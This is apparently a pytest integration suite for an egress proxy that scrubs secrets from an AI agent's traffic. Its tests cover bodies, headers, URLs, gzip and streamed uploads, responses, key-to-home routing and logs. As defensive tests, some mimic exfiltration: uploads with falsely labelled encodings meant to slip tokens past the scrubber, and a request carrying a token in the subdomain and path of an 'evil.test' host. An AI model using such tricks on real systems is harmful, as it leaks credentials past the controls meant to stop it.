"""What an allowed origin really receives, and what the agent gets back."""

import gzip
import json
from pathlib import Path

import pytest
from aiohttp import web

from tests.integration.border.conftest import HOST, PLAIN, Way, way
from tests.support.detection import ANTHROPIC_KEY, GITHUB_TOKEN

pytestmark = pytest.mark.anyio

JSON = ("-H", "Content-Type: application/json")


async def test_a_secret_in_a_json_body_is_gone_at_the_origin_and_the_json_is_valid(through: Way) -> None:
    body = json.dumps({"n": 1.50, "messages": [{"content": f"key {GITHUB_TOKEN}\nnext"}]})
    for send in (through.explicit, through.transparent):
        await send(f"https://{HOST}/v1", *JSON, "-d", body)
        arrived = through.secure.arrived.pop()
        assert GITHUB_TOKEN.encode() not in arrived.everything
        assert json.loads(arrived.body) == {
            "n": 1.50,
            "messages": [{"content": "key [REDACTED_GITHUB_PAT]\nnext"}],
        }


async def test_a_clean_body_arrives_byte_for_byte(through: Way) -> None:
    body = '{ "a" : 1e3,\t"b":"\\u00e9/\\/" , "c":[ ] }'
    await through.explicit(f"https://{HOST}/", *JSON, "-d", body)
    assert through.secure.arrived[-1].body == body.encode()


async def test_a_secret_in_header_path_and_query_is_gone(through: Way) -> None:
    url = f"https://{HOST}/x/{GITHUB_TOKEN}?token={GITHUB_TOKEN}&keep=1"
    await through.explicit(url, "-H", f"X-Api-Key: {ANTHROPIC_KEY}", "-H", f"Authorization: Bearer {GITHUB_TOKEN}")
    arrived = through.secure.arrived[-1]
    assert GITHUB_TOKEN.encode() not in arrived.everything
    assert ANTHROPIC_KEY.encode() not in arrived.everything
    assert arrived.target.endswith("&keep=1")


async def test_basic_credentials_are_scrubbed_inside_their_encoding(through: Way) -> None:
    await through.explicit(f"https://{HOST}/", "-u", f"me:{GITHUB_TOKEN}")
    import base64

    header = dict(through.secure.arrived[-1].headers)["authorization"]
    assert GITHUB_TOKEN.encode() not in base64.b64decode(header.removeprefix("Basic "))


async def test_plain_http_is_scrubbed_as_well(through: Way) -> None:
    await through.transparent(f"http://{PLAIN}/", "-d", f"a=1&key={GITHUB_TOKEN}")
    assert GITHUB_TOKEN.encode() not in through.plain.arrived[-1].everything
    assert through.plain.arrived[-1].body.startswith(b"a=1&key=")


async def test_a_gzipped_request_body_is_scrubbed_and_still_gzip(through: Way, tmp_path: Path) -> None:
    packed = tmp_path / "body.gz"
    packed.write_bytes(gzip.compress(json.dumps({"k": GITHUB_TOKEN}).encode()))
    await through.explicit(f"https://{HOST}/", *JSON, "-H", "Content-Encoding: gzip", "--data-binary", f"@{packed}")
    # aiohttp has taken the coding off on its way in: had it not been gzip, there would be no body.
    assert json.loads(through.secure.arrived[-1].body) == {"k": "[REDACTED_GITHUB_PAT]"}


@pytest.mark.parametrize("label", ["gzip", "br", "zstd", "gzip, x-foo", "sdch"])
async def test_plain_text_with_a_lying_encoding_does_not_get_a_secret_out(through: Way, label: str) -> None:
    answer = await through.explicit(
        f"http://{PLAIN}/", *JSON, "-H", f"Content-Encoding: {label}", "-d", json.dumps({"k": GITHUB_TOKEN})
    )
    assert answer.code == 0
    assert all(GITHUB_TOKEN.encode() not in arrived.everything for arrived in through.plain.arrived)
    requests = through.border.records("request")
    assert requests[-1].findings or requests[-1].verdict == "deny"


async def test_bytes_that_cannot_be_decoded_are_refused_with_a_reason(through: Way, tmp_path: Path) -> None:
    broken = tmp_path / "broken"
    broken.write_bytes(bytes(range(256)) * 4)
    answer = await through.explicit(
        f"http://{PLAIN}/", *JSON, "-H", "Content-Encoding: gzip", "--data-binary", f"@{broken}"
    )
    assert b"cannot be decoded" in answer.body
    assert through.plain.arrived == []
    assert through.border.records("request")[-1].reason == "undecodable-body"


async def test_a_streamed_upload_of_text_is_scrubbed_on_its_way(through: Way, tmp_path: Path) -> None:
    large = tmp_path / "large.txt"
    lines = "".join(f"line {number} of a log\n" for number in range(60_000))
    large.write_text(lines[: len(lines) // 2] + f"key={GITHUB_TOKEN}\n" + lines[len(lines) // 2 :])
    answer = await through.explicit(f"https://{HOST}/", "-T", str(large), "-o", "/dev/null", "-w", "%{http_code}")
    assert answer.body == b"200"
    assert GITHUB_TOKEN.encode() not in through.secure.arrived[-1].body
    assert through.secure.arrived[-1].body == large.read_bytes().replace(
        GITHUB_TOKEN.encode(), b"[REDACTED_GITHUB_PAT]"
    )
    assert [f.rule for f in through.border.records("response")[-1].findings] == ["github-pat"]


@pytest.mark.parametrize("label", ["gzip", "br", "zstd", "x-foo"])
async def test_a_streamed_upload_with_a_lying_encoding_does_not_get_a_secret_out(
    through: Way, tmp_path: Path, label: str
) -> None:
    large = tmp_path / "large.txt"
    large.write_text(f"key={GITHUB_TOKEN}\n" + "words and more words\n" * 50_000)
    await through.explicit(f"http://{PLAIN}/", "-T", str(large), "-H", f"Content-Encoding: {label}", "-o", "/dev/null")
    assert all(GITHUB_TOKEN.encode() not in arrived.everything for arrived in through.plain.arrived)


async def test_text_that_is_labelled_binary_is_scrubbed_and_real_binary_is_not(through: Way, tmp_path: Path) -> None:
    octets = ("-H", "Content-Type: application/octet-stream")
    await through.explicit(f"https://{HOST}/", *octets, "--data-binary", f"token {GITHUB_TOKEN} end")
    assert GITHUB_TOKEN.encode() not in through.secure.arrived[-1].body
    blob = tmp_path / "blob"
    blob.write_bytes(b"\x00\x01\xff" * 1000 + b"10.0.0.7, not a key\x00")
    await through.explicit(f"https://{HOST}/", *octets, "--data-binary", f"@{blob}")
    assert through.secure.arrived[-1].body == blob.read_bytes()


async def test_a_secret_in_a_response_does_not_reach_the_agent(tmp_path: Path) -> None:
    async def leak(_: web.Request) -> web.StreamResponse:
        return web.json_response({"token": GITHUB_TOKEN})

    async with way(tmp_path, leak) as through:
        answer = await through.transparent(f"https://{HOST}/")
        assert json.loads(answer.body) == {"token": "[REDACTED_GITHUB_PAT]"}


async def test_an_image_of_a_response_is_untouched(tmp_path: Path) -> None:
    picture = b"\x89PNG\r\n\x1a\n" + GITHUB_TOKEN.encode() + bytes(200)

    async def image(_: web.Request) -> web.StreamResponse:
        return web.Response(body=picture, content_type="image/png")

    async with way(tmp_path, image) as through:
        assert (await through.explicit(f"https://{HOST}/")).body == picture


async def test_head_204_and_304_keep_their_headers_and_have_no_body(tmp_path: Path) -> None:
    async def bare(request: web.Request) -> web.StreamResponse:
        return web.Response(status=int(request.path[1:]), headers={"X-Kept": "yes"})

    async with way(tmp_path, bare) as through:
        for status in ("204", "304"):
            answer = await through.explicit(f"https://{HOST}/{status}", "-i")
            assert b"x-kept: yes" in answer.body.lower()
        assert (await through.explicit(f"https://{HOST}/200", "-I")).code == 0


async def test_a_key_goes_unchanged_to_its_home_and_nowhere_else(tmp_path: Path) -> None:
    from tests.support.origin import origin

    async with origin(names=("api.anthropic.com",)) as home:
        more = f'[[hosts]]\npattern = "api.anthropic.com"\ndial = "127.0.0.1:{home.port}"\nca = "{home.ca_file}"\n'
        async with way(tmp_path, more=more) as through:
            for host in ("api.anthropic.com", HOST):
                await through.explicit(f"https://{host}/v1/messages", "-H", f"x-api-key: {ANTHROPIC_KEY}")
            assert dict(home.arrived[-1].headers)["x-api-key"] == ANTHROPIC_KEY
            assert ANTHROPIC_KEY.encode() not in through.secure.arrived[-1].everything
            at_home, elsewhere = [r.findings[0] for r in through.border.records("request") if r.method == "GET"]
            assert at_home.is_home
            assert (at_home.action, elsewhere.action, elsewhere.severity) == ("allow", "scrub", "high")


async def test_a_login_sends_its_token_in_a_body_to_its_home_and_a_prompt_does_not(tmp_path: Path) -> None:
    from tests.support.origin import origin

    async with origin(names=("api.anthropic.com",)) as home:
        more = f'[[hosts]]\npattern = "api.anthropic.com"\ndial = "127.0.0.1:{home.port}"\nca = "{home.ca_file}"\n'
        async with way(tmp_path, more=more) as through:
            body = {"grant_type": "refresh", "refresh_token": ANTHROPIC_KEY, "note": f"my key is {ANTHROPIC_KEY}"}
            for host in ("api.anthropic.com", HOST):
                await through.explicit(f"https://{host}/oauth/token", *JSON, "-d", json.dumps(body))
        at_home, elsewhere = json.loads(home.arrived[-1].body), json.loads(through.secure.arrived[-1].body)
        assert at_home["refresh_token"] == ANTHROPIC_KEY
        assert ANTHROPIC_KEY not in at_home["note"]
        assert ANTHROPIC_KEY not in json.dumps(elsewhere)


async def test_a_signed_request_with_a_secret_is_refused_and_without_one_is_byte_exact(through: Way) -> None:
    signed = ("-H", "Authorization: AWS4-HMAC-SHA256 Credential=x/20260101/r/s/aws4_request, Signature=ab")
    await through.explicit(f"https://{HOST}/", *signed, *JSON, "-d", '{"a": "clean"}')
    assert through.secure.arrived.pop().body == b'{"a": "clean"}'
    answer = await through.explicit(f"https://{HOST}/", *signed, *JSON, "-d", json.dumps({"a": GITHUB_TOKEN}))
    assert b"signed" in answer.body
    assert through.secure.arrived == []


async def test_no_record_holds_a_secret_wherever_it_was_put(through: Way) -> None:
    url = f"https://{HOST}/p/{GITHUB_TOKEN}?q={GITHUB_TOKEN}"
    arguments = ("-A", GITHUB_TOKEN, "-e", f"https://x/?k={GITHUB_TOKEN}", "-b", f"s={GITHUB_TOKEN}")
    await through.explicit(url, *arguments, "-d", GITHUB_TOKEN)
    await through.explicit(f"http://{GITHUB_TOKEN.replace('_', '-')}.evil.test/{GITHUB_TOKEN}")
    assert through.border.sink.records
    for record in through.border.sink.records:
        assert GITHUB_TOKEN not in repr(record)
